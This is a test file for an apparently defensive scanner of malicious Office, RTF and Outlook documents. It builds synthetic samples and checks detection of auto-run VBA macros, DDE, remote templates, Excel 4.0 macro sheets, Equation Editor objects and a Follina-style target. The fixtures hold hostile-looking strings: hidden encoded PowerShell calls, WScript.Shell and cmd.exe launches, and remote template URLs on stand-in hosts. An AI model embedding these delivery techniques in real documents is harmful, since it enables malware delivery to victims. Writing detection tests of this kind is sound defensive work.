import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildCfb, buildCleanDocx, buildDocm, buildDocxDde, buildDocxRemoteTemplate, buildEncryptedOoxml, buildXlsWithMacro, buildZip } from '../../demo/artifacts/index.js';
import { analyze, ids, mediumOrAbove } from './test-helpers.js';

test('docm: vbaProject.bin found, macro source decompressed, auto-run + shell is critical', () => {
  const a = analyze('Salary.docm', buildDocm({ macro: 'Shell "powershell -w hidden -enc SQBFAFgA"' }));
  assert.equal(a.detectedType, 'docm');
  for (const f of ['vba-macro', 'vba-autoexec', 'vba-suspicious']) assert.ok(a.flags.includes(f), f);
  assert.equal(a.findings.find((f) => f.id === 'vba-suspicious')?.severity, 'critical');
  assert.ok(a.findings.some((f) => f.id === 'vba-macro' && /NewMacros/.test(f.evidence)), 'module names from the dir stream');
});

test('docm without auto-run: macro flagged, not critical', () => {
  const a = analyze('a.docm', buildDocm({ macro: 'Sub Helper()\r\nMsgBox "hi"\r\nEnd Sub', autoOpen: false }));
  assert.ok(a.flags.includes('vba-macro'));
  assert.ok(!a.flags.includes('vba-autoexec'));
  assert.ok(!a.findings.some((f) => f.severity === 'critical'));
});

test('xls (OLE) with Workbook_Open macro', () => {
  const a = analyze('budget.xls', buildXlsWithMacro({ macro: 'CreateObject("WScript.Shell").Run "calc"' }));
  assert.equal(a.detectedType, 'xls');
  assert.ok(a.flags.includes('vba-macro') && a.flags.includes('vba-autoexec'));
  assert.match(a.findings.find((f) => f.id === 'vba-autoexec')?.evidence ?? '', /Workbook_Open/);
});

test('remote-template: external attachedTemplate over http is critical and its URL returned', () => {
  const url = 'https://onedrive-docs.example.org/templates/job.dotm';
  const a = analyze('JD.docx', buildDocxRemoteTemplate(url));
  assert.equal(a.findings.find((f) => f.id === 'remote-template')?.severity, 'critical');
  assert.ok(a.urls.includes(url));
});

test('remote-template over UNC/WebDAV path is critical too', () => {
  assert.ok(analyze('a.docx', buildDocxRemoteTemplate('\\\\203.0.113.9\\share\\t.dotm')).flags.includes('remote-template'));
});

test('local attached template (Normal.dotm on disk) is not an injection', () => {
  const a = analyze('a.docx', buildDocxRemoteTemplate('file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'));
  assert.ok(!a.flags.includes('remote-template'));
  assert.deepEqual(mediumOrAbove(a), []);
});

test('dde: DDEAUTO split across instrText runs', () => {
  const a = analyze('notice.docx', buildDocxDde('c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'));
  assert.ok(a.flags.includes('dde'));
  assert.match(a.findings.find((f) => f.id === 'dde')?.evidence ?? '', /DDEAUTO/);
});

test('xlm-macro: Excel 4.0 macro sheet in xlsm', () => {
  const z = buildZip({
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.xml': '<workbook/>',
    'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
  });
  assert.ok(ids(analyze('a.xlsm', z)).includes('xlm-macro'));
});

test('rtf-object: Equation Editor object is critical', () => {
  const rtf = '{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}';
  const a = analyze('order.doc', rtf);
  assert.equal(a.detectedType, 'rtf');
  assert.equal(a.findings.find((f) => f.id === 'rtf-object')?.severity, 'critical');
  assert.ok(!a.flags.includes('type-mismatch'), 'RTF saved as .doc is normal');
});

test('clean docx: no medium or higher findings', () => {
  assert.deepEqual(mediumOrAbove(analyze('notes.docx', buildCleanDocx())), []);
});

test('document-password-in-body: agile-encrypted docm decrypted with the body password', () => {
  const enc = buildEncryptedOoxml(buildDocm({ macro: 'Shell "powershell -enc AAAA"' }), '0415', { spinCount: 1000 });
  const a = analyze('Survey.docx', enc, { bodyText: '보안을 위해 암호를 설정했습니다. 비밀번호: 0415' });
  assert.ok(a.flags.includes('document-password-in-body'));
  assert.equal(a.members[0]?.detectedType, 'docm');
  assert.ok(a.flags.includes('vba-macro') && a.flags.includes('vba-suspicious'));
});

test('encrypted office document without the password: flagged, not opened', () => {
  const enc = buildEncryptedOoxml(buildCleanDocx(), 'secret-pw', { spinCount: 1000 });
  const a = analyze('a.docx', enc, { bodyText: 'Regards' });
  assert.ok(a.flags.includes('encrypted-document'));
  assert.ok(!a.flags.includes('document-password-in-body'));
  assert.equal(a.members.length, 0);
});

test('VelvetSweatshop (Excel default password) opens without a prompt and is decrypted', () => {
  const enc = buildEncryptedOoxml(buildDocxRemoteTemplate('https://x.example/t.dotm'), 'VelvetSweatshop', { spinCount: 1000 });
  const a = analyze('a.xlsx', enc);
  assert.ok(a.flags.includes('remote-template'));
});

test('office-spin-count-over-limit is refused without burning CPU', () => {
  const enc = buildEncryptedOoxml(buildCleanDocx(), 'pw', { spinCount: 100 });
  // Same length, so the compound file stays intact: 100 becomes 9,000,000,000 rounds.
  const patched = new Uint8Array(Buffer.from(Buffer.from(enc).toString('latin1').replace('spinCount="100"', 'spinCount="9e9"'), 'latin1'));
  const a = analyze('a.docx', patched, { bodyText: 'password: pw' });
  assert.ok(a.flags.includes('encrypted-document'));
  assert.equal(a.members.length, 0);
});

test('msg (Outlook item): inner attachment analysed, body links returned', () => {
  const u16 = (x: string): Uint8Array => new Uint8Array(Buffer.from(`${x}\u0000`, 'utf16le'));
  const msg = buildCfb([
    { path: '__substg1.0_0037001F', data: u16('Fwd: invoice') },
    { path: '__substg1.0_1000001F', data: u16('See https://invoice-portal.example.net/view and the attachment.') },
    { path: '__attach_version1.0_#00000000/__substg1.0_3707001F', data: u16('Invoice.pdf.js') },
    { path: '__attach_version1.0_#00000000/__substg1.0_37010102', data: new Uint8Array(Buffer.from('new ActiveXObject("WScript.Shell").Run("calc")')) },
  ]);
  const a = analyze('Fwd invoice.msg', msg);
  assert.equal(a.detectedType, 'msg');
  assert.equal(a.members[0]?.path, 'Invoice.pdf.js');
  assert.ok(a.flags.includes('script') && a.flags.includes('double-extension'));
  assert.ok(a.urls.includes('https://invoice-portal.example.net/view'));
});

test('rtf-object class read from the OLE1 header when \\objclass is missing', () => {
  const rtf = '{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174696f6e2e330000000000}}}';
  assert.equal(analyze('a.rtf', rtf).findings.find((f) => f.id === 'rtf-object')?.severity, 'critical');
});

test('remote-template: external oleObject to an mhtml/ms-msdt style target (Follina) is critical', () => {
  const z = buildZip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
    'word/_rels/document.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:https://files.example.net/x.html!x-usc:https://files.example.net/x.html" TargetMode="External"/></Relationships>',
  });
  const a = analyze('Invoice.docx', z);
  assert.equal(a.findings.find((f) => f.id === 'remote-template')?.severity, 'critical');
});
